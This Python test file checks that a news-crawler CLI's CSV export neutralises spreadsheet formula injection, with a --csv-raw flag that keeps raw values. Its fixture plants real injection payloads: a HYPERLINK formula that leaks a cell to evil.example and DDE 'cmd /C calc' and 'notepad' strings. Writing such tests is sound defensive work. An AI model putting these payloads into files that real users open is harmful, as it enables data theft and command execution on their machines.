"""CSV cells a spreadsheet would run as formulas are neutralised unless ``--csv-raw`` asks."""

import csv
import io
import json

import pytest
from sqlalchemy import text

from tests.factories import foreign_engine
from tests.wirewatch.app.cli.conftest import CRANES, GOLD, KREMLIN, OIL, Run

FORMULAS = {
    OIL: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    GOLD: "+cmd|' /C calc'!A0",
    KREMLIN: "-2+3+cmd|' /C calc'!A0",
    CRANES: "@SUM(1+1)*cmd|' /C calc'!A0",
}
RUN_ERROR = "=cmd|' /C notepad'!A0"


@pytest.fixture
def formulas(filled_db: str) -> str:
    """``filled_db`` whose titles, one provider, one body and one run error start like formulas
    (written as another program could: wirewatch itself turns a stored CR into a newline)."""
    engine = foreign_engine(filled_db)
    with engine.begin() as connection:
        for record, title in FORMULAS.items():
            connection.execute(
                text("UPDATE articles SET title = :t WHERE canonical_url = :u"),
                {"t": title, "u": record.canonical_url},
            )
        connection.execute(
            text("UPDATE articles SET provider = :p, body = :b WHERE canonical_url = :u"),
            {"p": "\tTab Times", "b": "\r=1+1", "u": GOLD.canonical_url},
        )
        connection.execute(
            text("UPDATE crawl_runs SET error = :e WHERE status = 'failed'"), {"e": RUN_ERROR}
        )
    engine.dispose()
    return filled_db


def parsed(out: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(out)))


def test_cells_that_start_like_a_formula_get_a_leading_quote(formulas: str, run_cli: Run) -> None:
    result = run_cli("articles", "--format", "csv", "--body")
    assert result.code == 0, result.err
    rows = parsed(result.out)
    assert [row["title"] for row in rows] == ["'" + title for title in FORMULAS.values()]
    gold = rows[1]
    assert (gold["provider"], gold["body"]) == ("'\tTab Times", "'\r=1+1")
    assert rows[0]["provider"] == "Jordan Times"  # everything else as it is
    assert rows[0]["published_at"] == "2025-11-17T08:50:00+00:00"
    assert rows[0]["revision"] == "2"


def test_csv_raw_writes_the_exact_values(formulas: str, run_cli: Run) -> None:
    rows = parsed(run_cli("articles", "--format", "csv", "--body", "--csv-raw").out)
    assert [row["title"] for row in rows] == list(FORMULAS.values())
    assert (rows[1]["provider"], rows[1]["body"]) == ("\tTab Times", "\r=1+1")


def test_json_is_not_a_spreadsheet_and_keeps_the_exact_values(formulas: str, run_cli: Run) -> None:
    rows = json.loads(run_cli("articles", "--format", "json").out)
    assert [row["title"] for row in rows] == list(FORMULAS.values())


def test_runs_csv_is_neutralised_too(formulas: str, run_cli: Run) -> None:
    failed = parsed(run_cli("runs", "--format", "csv").out)[0]
    assert failed["error"] == "'" + RUN_ERROR
    raw = parsed(run_cli("runs", "--format", "csv", "--csv-raw").out)[0]
    assert raw["error"] == RUN_ERROR
